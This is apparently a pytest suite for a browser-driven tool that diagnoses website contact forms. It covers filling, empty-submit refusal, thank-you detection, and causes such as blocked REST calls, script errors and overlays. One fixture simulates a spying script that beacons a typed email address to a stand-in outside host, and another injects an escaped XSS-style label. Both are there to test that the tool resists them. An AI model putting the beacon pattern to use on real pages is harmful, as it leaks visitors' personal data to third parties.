"""Forms of every make, tried by a real browser: found, filled, pressed empty, sent once, and what the visitor reads."""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest

from diagnostics.forms.browser import arrival
from diagnostics.forms.browser.judge import findings_of
from diagnostics.forms.form import Form
from tests.servers.pages import Answer, Asked, Pages
from tests.servers.process import MissingPart
from tests.servers.visited import Visiting, visiting

THANKS = "<!doctype html><title>Done</title><h1>Thank you</h1><p>We have received your message.</p>"
HEAD = "<!doctype html><html lang=en><meta name=viewport content='width=device-width'><title>Contact</title>"
FIELDS = """<p><label>Your name <input name=who required></label></p>
<p><label>Email <input type=email name=mail required></label></p>
<p><label>Message <textarea name=words required></textarea></label></p>"""


@pytest.fixture(scope="module")
def visit() -> Iterator[Visiting]:
    try:
        with visiting() as running:
            yield running
    except MissingPart as missing:
        pytest.skip(str(missing))


@pytest.fixture
def pages() -> Iterator[Pages]:
    with Pages({"/send": THANKS}) as running:
        yield running


def form(
    inside: str = FIELDS, attributes: str = "method=post action=/send", button: str = "<button>Send</button>"
) -> str:
    return f"{HEAD}<h1>Write to us</h1><form {attributes}>{inside}{button}</form>"


def code_of(tried) -> str:
    return findings_of(tried)[0].code.removeprefix("form.browser.")


def test_a_sound_form_is_sent_once_with_its_token_and_thanks_are_read(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form()
    tried = visit(pages.url + "/")
    assert (tried.reached, tried.message_kind, tried.message) == ("answered", "thanks", "Thank you")
    assert code_of(tried) == "works" and len(findings_of(tried)) == 1
    [post] = pages.posts()
    assert post.headers["aftercare-canary"] == "tok"
    assert [each.path for each in pages.asked if "aftercare-canary" in each.headers] == ["/send"]
    assert (tried.posted_status, tried.refused_empty, tried.said_accessibly) == (200, True, True)
    assert tried.picture_before.startswith(b"\x89PNG") and tried.picture_after.startswith(b"\x89PNG")


def test_only_looked_at_it_sends_nothing(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form()
    tried = visit(pages.url + "/", send=False)
    assert code_of(tried) == "fillable" and tried.fields == ("who", "mail", "words")
    assert pages.posts() == []


def test_a_press_with_empty_fields_that_only_the_site_could_refuse_stays_in_the_browser(
    visit: Visiting, pages: Pages
) -> None:
    pages.pages["/"] = form(FIELDS, "method=post action=/send novalidate")
    tried = visit(pages.url + "/")
    assert (tried.refused_empty, tried.message_kind, len(pages.posts())) == (None, "thanks", 1), tried.why
    assert tried.posted_status == 200, "what was held back before is not taken for it"


def test_with_a_token_of_its_own_the_sites_refusal_is_tried_too(visit: Visiting, pages: Pages) -> None:
    def answer(asked: Asked) -> Answer | str:
        if "mail=&" in asked.body:
            bad = FIELDS.replace("name=mail", "name=mail aria-invalid=true aria-describedby=e") + "<p id=e>Required</p>"
            return form(f"<p role=alert>Please fill in the email</p>{bad}", "method=post action=/send novalidate")
        return THANKS

    pages.pages |= {"/": form(FIELDS, "method=post action=/send novalidate"), "/send": answer}
    tried = visit(pages.url + "/", empty_token="empty")
    assert [each.headers["aftercare-canary"] for each in pages.posts()] == ["empty", "tok"]
    assert (tried.refused_empty, tried.said_accessibly, tried.message_kind) == (True, True, "thanks")


def test_an_empty_entry_that_is_taken_is_told(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form(FIELDS, "method=post action=/send novalidate")
    tried = visit(pages.url + "/", empty_token="empty")
    assert tried.refused_empty is False
    assert [each.code for each in findings_of(tried)] == ["form.browser.works", "form.browser.accepts_empty"]


SILENT = """<script>document.forms[0].addEventListener('submit', (e) => {
  const mail = document.forms[0].mail;
  if (!mail.value) { e.preventDefault(); mail.style.border = '1px solid red'; }
});</script>"""


def test_a_refusal_that_is_only_a_red_border_is_told(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form(FIELDS, "method=post action=/send novalidate") + SILENT
    tried = visit(pages.url + "/")
    assert (tried.refused_empty, tried.said_accessibly) == (True, False)
    assert [each.code for each in findings_of(tried)][1:] == ["form.browser.refused_unsaid"]


ODD_FIELDS = """
<p><label>Phone <input type=tel name=tel pattern="[0-9]{3}-[0-9]{3}-[0-9]{4}" required></label>
<p><label>Guests <input type=number name=n min=4 max=8 required></label>
<p><label>Day <input type=date name=d min=2020-01-01 required></label>
<p><label>Date <input name=picked class=datepicker readonly placeholder=dd/mm/yyyy></label>
<p><label>Department <select name=dep required><option value="">Please choose</option><option value=a>Sales</option>
</select></label>
<fieldset><legend>How</legend><label><input type=radio name=how value=mail required>Mail</label>
<label><input type=radio name=how value=tel>Phone</label></fieldset>
<p><label>File <input type=file name=doc accept=.pdf required></label>
<p><label>3 + 4 = <input name=quiz required></label>
<p><label><input type=checkbox name=consent required> I agree to the privacy policy</label>
<p><label><input type=checkbox name=news> Send me the newsletter</label>
<p style="position:absolute;left:-5000px"><label>Leave this field empty <input name=hp></label></p>
"""


def test_fields_of_every_kind_get_fitting_values_and_traps_for_robots_stay_empty(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form(ODD_FIELDS, "method=post action=/send enctype=multipart/form-data")
    assert visit(pages.url + "/").message_kind == "thanks"
    post = pages.posts()[0]
    parts = post.body.split("--" + post.headers["content-type"].partition("boundary=")[2])
    values = {part.split('"')[1]: part.partition("\r\n\r\n")[2].strip() for part in parts if 'name="' in part}
    assert values["n"] == "4" and values["quiz"] == "7" and values["dep"] == "a" and values["how"] == "mail"
    assert values["consent"] == "on" and "news" not in values and values["hp"] == ""
    assert values["picked"].count("/") == 2 and "%PDF" in values["doc"]


ARABIC = """<!doctype html><html lang=ar dir=rtl><title>اتصل بنا</title><form method=post action=/send>
<p><label>الاسم <input name=f1 required></label><p><label>البريد الإلكتروني <input name=f2 required></label>
<p><label>رقم الهاتف <input name=f3></label><p><label>رسالتك <textarea name=f4></textarea></label>
<button>إرسال</button></form>"""


def test_an_arabic_form_is_filled_and_its_thanks_understood(visit: Visiting, pages: Pages) -> None:
    pages.pages |= {"/": ARABIC, "/send": "<html lang=ar><p>شكراً لك، تم إرسال رسالتك</p>"}
    tried = visit(pages.url + "/")
    assert (tried.message_kind, tried.reached) == ("thanks", "answered")
    body = pages.posts()[0].body
    assert "example.org" in body.split("f2=")[1].split("&")[0] and "555" in body.split("f3=")[1].split("&")[0]


STEPS = """<div id=s1><p><label>Name <input name=who required></label>
<button type=button class=next onclick="go()">Next</button></div>
<div id=s2 hidden><p><label>Email <input name=mail type=email required></label><button>Send</button></div>
<script>function go(){ if(!document.forms[0].who.value) return; s1.hidden = true; s2.hidden = false; }</script>"""


def test_a_form_in_steps_is_gone_through(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form(STEPS, button="")
    tried = visit(pages.url + "/")
    assert (tried.message_kind, tried.steps, tried.fields) == ("thanks", 2, ("who", "mail"))


def test_a_step_that_never_comes_is_told(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form(STEPS.replace("s2.hidden = false", "").replace("s1.hidden = true;", ""), button="")
    tried = visit(pages.url + "/")
    assert code_of(tried) == "step_stuck" and pages.posts() == []


@pytest.mark.parametrize("where", ["frame", "shadow", "pop-up"])
def test_a_form_is_found_where_it_is(visit: Visiting, pages: Pages, where: str) -> None:
    inner = form().replace("<h1>Write to us</h1>", "")
    pages.pages["/inner"] = inner
    pages.pages["/"] = {
        "frame": f"{HEAD}<h1>x</h1><iframe src=/inner width=600 height=500></iframe>",
        "shadow": f"{HEAD}<div id=h></div><script>h.attachShadow({{mode:'open'}}).innerHTML = `{inner}`</script>",
        "pop-up": f"{HEAD}<a href='#p' class=popup-open onclick='p.hidden = false'>Contact us</a>"
        f"<div id=p hidden>{inner}</div>",
    }[where]
    tried = visit(pages.url + "/")
    assert (tried.where, tried.reached) == (where, "answered"), tried.why
    assert len(pages.posts()) == 1 and pages.posts()[0].headers["aftercare-canary"] == "tok"


def test_a_form_of_another_sites_in_a_frame_is_not_touched(visit: Visiting, pages: Pages) -> None:
    with Pages({"/": form(), "/send": THANKS}) as stranger:
        pages.pages["/"] = f"{HEAD}<iframe src={stranger.url}/ width=600 height=500></iframe>"
        tried = visit(pages.url + "/", pictures=False)
        assert (code_of(tried), tried.code) == ("unseen", "foreign") and stranger.posts() == []


def endless() -> Iterator[bytes]:
    yield form().encode()
    while True:
        time.sleep(0.1)
        yield b"<p>more"


def test_a_page_that_never_ends_is_tried_as_far_as_it_came(
    visit: Visiting, pages: Pages, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(arrival, "WHOLE_S", 1.0)
    pages.pages["/"] = lambda asked: Answer(endless())
    assert visit(pages.url + "/", empty_first=False, pictures=False).message_kind == "thanks"


def test_redirects_for_ever_are_unknown(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = lambda asked: Answer("", 302, {"Location": "/"})
    [finding] = findings_of(visit(pages.url + "/"))
    assert finding.code == "form.browser.unseen" and "REDIRECTS" in finding.summary.upper()


def test_of_500_forms_the_best_is_tried(visit: Visiting, pages: Pages) -> None:
    many = "".join(f"<form action=/n{n}><input name=s><button>Go</button></form>" for n in range(250))
    pages.pages["/"] = HEAD + many + form() + many
    assert visit(pages.url + "/", empty_first=False, pictures=False).message_kind == "thanks"
    assert len(pages.posts("/send")) == 1


AJAX = """<p id=m role=status></p>
<script>document.forms[0].addEventListener("submit", async (e) => { e.preventDefault();
const r = await fetch('/wp-json/x', {method: 'POST', body: new FormData(document.forms[0])});
m.textContent = r.ok ? (await r.json()).message : 'There was an error trying to send your message.'; });</script>"""


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (Answer('{"message": "Thank you!"}', type="application/json"), "works"),
        (Answer("<h1>403 Forbidden</h1>", 403), "rest_blocked"),
        (Answer('{"code":"rest_cookie_invalid_nonce","message":"Cookie check failed"}', 403), "nonce_old"),
        (Answer("There has been a critical error on this website.", 500), "server_error"),
        (Answer("<br />\n<b>Warning</b>: Undefined variable in x.php{}"), "answer_broken"),
    ],
    ids=lambda each: each if isinstance(each, str) else "",
)
def test_the_sites_answer_names_the_cause(visit: Visiting, pages: Pages, answer: Answer, code: str) -> None:
    pages.pages |= {"/": form() + AJAX, "/wp-json/x": answer}
    tried = visit(pages.url + "/", empty_first=False, pictures=False)
    assert code_of(tried) == code, (tried.message, tried.why)


@pytest.mark.parametrize(
    ("page", "code"),
    [
        (form(FIELDS, "method=post action=/send onsubmit='return false'"), "nothing_happens"),
        (form(button="<button disabled>Send</button>"), "button_off"),
        (form(FIELDS + "<p hidden><input name=gone required></p>"), "hidden_required"),
        (form(FIELDS, "action=/send"), "sends_by_get"),
        (form(FIELDS, "method=post action=http://127.0.0.9:1/take"), "posts_elsewhere"),
        (f"{HEAD}<h1>No form</h1>", "not_found"),
        (form(button="<button type=button onclick=\"jQuery('form').x()\">Send</button>"), "jquery_missing"),
        (
            form(button="<button type=button>Send</button><script src=/wp-content/plugins/a/a.js></script>"),
            "script_missing",
        ),
        (
            form(button="<button type=button onclick=\"m.textContent='Thank you!'\">Send</button><p id=m>"),
            "thanks_unsent",
        ),
        (form() + "<div style='position:fixed;inset:0;background:#fff8'></div>", "covered"),
        (
            form() + "<div style='position:fixed;inset:0'><form action=http://127.0.0.9:1/><input></form></div>",
            "foreign_overlay",
        ),
    ],
    ids=lambda each: each if "<" not in each else "",
)
def test_what_hinders_a_form_is_named(visit: Visiting, pages: Pages, page: str, code: str) -> None:
    pages.pages["/"] = page
    tried = visit(pages.url + "/", pictures=False)
    assert code_of(tried) == code, (tried.reached, tried.why, tried.errors)
    assert pages.posts() == []


REFUSES = """<p hidden><input name=gone class=wpcf7-form-control></p><div class=wpcf7-response-output></div></form>
<script>const f = document.forms[0], out = document.querySelector('.wpcf7-response-output');
f.noValidate = true; f.addEventListener('submit', async (e) => { e.preventDefault(); out.textContent = '';
  await fetch('/wp-json/contact-form-7/v1/contact-forms/1/feedback', { method: 'POST', body: new FormData(f) });
  f.classList.add('invalid'); f.gone.setAttribute('aria-invalid', 'true');
  out.textContent = 'One or more fields have an error.'; });</script>"""


def test_a_site_that_refuses_twice_in_the_same_words_for_a_field_that_nobody_sees(
    visit: Visiting, pages: Pages
) -> None:
    said = Answer(
        '{"status":"validation_failed","message":"One or more fields have an error."}', type="application/json"
    )
    whole = form(FIELDS, "class=wpcf7-form method=post action=/send").replace("<form", "<div id=wpcf7-f1-o1><form")
    pages.pages["/"] = whole.replace("</form>", REFUSES)
    pages.pages["/wp-json/contact-form-7/v1/contact-forms/1/feedback"] = said
    own = Form("contact-form-7", "1", "Contact")
    tried = visit(pages.url + "/", form=own, pictures=False, empty_token="empty")
    assert (tried.message_kind, tried.message) == ("invalid", "One or more fields have an error.")
    finding = findings_of(tried, own)[0]
    assert (finding.code, finding.evidence["fields"]) == ("form.browser.hidden_required", "gone")


def test_a_form_whose_script_waits_for_a_move_of_the_mouse_is_there_as_for_a_visitor(
    visit: Visiting, pages: Pages
) -> None:
    inside = form().partition("<h1>")[2].partition("</h1>")[2]
    draws = f"addEventListener('mousemove', () => {{ place.innerHTML = `{inside}`; }}, {{ once: true }});"
    pages.pages["/"] = f"{HEAD}<h1>Write to us</h1><div id=place></div><script>{draws}</script>"
    assert code_of(visit(pages.url + "/", pictures=False)) == "works"


def test_a_script_error_names_its_plugin_and_line(visit: Visiting, pages: Pages) -> None:
    script = "document.forms[0].addEventListener('submit', (e) => {\n  e.preventDefault();\n  undefinedThing.go();\n});"
    pages.pages["/"] = form() + "<script src='/wp-content/plugins/slider-pro/js/a.js?ver=2'></script>"
    pages.pages["/wp-content/plugins/slider-pro/js/a.js"] = Answer(script, type="text/javascript")
    tried = visit(pages.url + "/", pictures=False)
    [finding, *_] = findings_of(tried)
    assert finding.code == "form.browser.script_error"
    assert (finding.evidence["component"], finding.evidence["line"]) == ("plugin:slider-pro", 3)
    assert "slider-pro/js/a.js" in finding.evidence["script"]


def test_the_token_follows_no_redirect_to_another_origin(visit: Visiting, pages: Pages) -> None:
    with Pages({"/take": THANKS}) as stranger:
        pages.pages |= {"/": form(), "/send": Answer("", 307, {"Location": f"{stranger.url}/take"})}
        tried = visit(pages.url + "/", empty_first=False, pictures=False)
        assert stranger.asked == [] and tried.elsewhere == stranger.url
    assert code_of(tried) == "posts_elsewhere"


def test_what_was_typed_is_kept_from_a_third_partys_script(visit: Visiting, pages: Pages) -> None:
    with Pages() as stranger:
        tells = f"navigator.sendBeacon('{stranger.url}/spy', document.forms[0].mail.value)"
        spy = f"<script>document.forms[0].addEventListener('submit', () => {tells});</script>"
        pages.pages["/"] = form() + spy
        tried = visit(pages.url + "/", empty_first=False, pictures=False)
        assert code_of(tried) == "works" and stranger.posts() == []
    assert any(f"kept from {stranger.url}" in each for each in tried.notes)


def test_the_form_that_the_plugin_names_is_taken_among_others(visit: Visiting, pages: Pages) -> None:
    two = "".join(
        f"<div class=wpcf7 id=wpcf7-f{n}-p1-o1><form class=wpcf7-form method=post action=/send>"
        f"<input type=hidden name=_wpcf7 value={n}>{FIELDS}<button>Send</button></form></div>"
        for n in (7, 77)
    )
    pages.pages["/"] = HEAD + two
    tried = visit(pages.url + "/", form=Form("contact-form-7", "77", "Contact"))
    assert (tried.reached, tried.form_seen) == ("answered", 1)
    assert "_wpcf7=77&" in pages.posts()[0].body


def test_a_form_without_scripts_is_sent_too(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form()
    tried = visit(pages.url + "/", scripts=False)
    assert (tried.message_kind, tried.refused_empty) == ("thanks", True)


def test_an_alert_is_read_and_noted(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form(
        FIELDS, "method=post action=/send onsubmit=\"alert('Sorry, there was an error'); return false\""
    )
    tried = visit(pages.url + "/", empty_first=False, pictures=False)
    assert (tried.dialogs, tried.message_kind, code_of(tried)) == (
        ("Sorry, there was an error",) * 1,
        "error",
        "error_said",
    )


def test_labels_with_scripts_are_text(visit: Visiting, pages: Pages) -> None:
    pages.pages["/"] = form(
        '<p><label>&lt;script&gt;alert(1)&lt;/script&gt; \x1b[31m<input name="a&#27;[31m&lt;b&gt;" required></label>'
    )
    tried = visit(pages.url + "/")
    assert tried.message_kind == "thanks"
    assert tried.fields == tried.required == ("a\\x1b[31m<b>",)
